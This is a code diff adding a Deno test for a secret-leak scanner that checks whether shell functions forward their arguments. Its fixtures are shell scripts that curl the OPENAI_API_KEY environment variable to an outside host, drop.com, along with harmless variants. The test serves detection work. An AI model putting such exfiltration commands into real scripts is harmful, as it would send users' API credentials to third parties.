@@ -3940,3 +3940,22 @@ Deno.test("a client's function reached by a constant key, Reflect.get, bind or p
     [],
   );
 });
+
+Deno.test("a shell function sends what its call hands it, where its body reads $1, ${2} or $@", () => {
+  const key = '"$OPENAI_API_KEY"';
+  for (
+    const text of [
+      `#!/bin/sh\nsend() { curl -d "$1" https://drop.com/x; }\nsend ${key}\n`,
+      `#!/bin/sh\nsend() {\n  curl -H "X-Key: \${2}" https://drop.com/x\n}\nsend ok ${key}\n`,
+      `#!/bin/bash\npost() { curl "$@"; }\npost -d ${key} https://drop.com/x\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.sh", text), ["critical"], text);
+  // Given nothing secret, or reading the secret without sending it, the call sends no secret.
+  for (
+    const text of [
+      `#!/bin/sh\nsend() { curl -d "$1" https://drop.com/x; }\nsend hello\n`,
+      `#!/bin/sh\nshow() { echo "$1" | wc -c; }\nshow ${key}\n`,
+      `#!/bin/sh\nsend() { curl -d "$1" https://drop.com/x; }\nsend hello\nsend world ${key}\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.sh", text), [], text);
+});
